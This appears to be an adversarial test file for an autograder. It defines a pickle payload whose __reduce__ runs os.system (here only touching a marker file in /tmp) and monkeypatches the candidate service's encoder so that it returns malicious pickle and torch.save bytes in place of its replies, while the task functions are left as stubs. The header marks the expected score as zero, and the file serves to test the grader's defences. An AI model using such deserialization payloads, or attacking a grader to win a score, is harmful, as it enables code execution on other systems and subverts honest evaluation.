"""Answers with the bytes of a pickle and of a torch.save file in place of a reply.

Earns: 0
"""

import io
import os
import pickle
import sys

import torch


class Loaded:
    def __reduce__(self):
        return os.system, ("touch /tmp/autograder-attack-was-here",)


buffer = io.BytesIO()
torch.save({"runs": Loaded()}, buffer)
messages = [pickle.dumps(Loaded()), buffer.getvalue()]
service = sys.modules["candidate.service"]
honest = service.encode_message
service.encode_message = lambda reply: messages.pop() if reply.runs and messages else honest(reply)


def double(x):
    return x


def share(x):
    return x
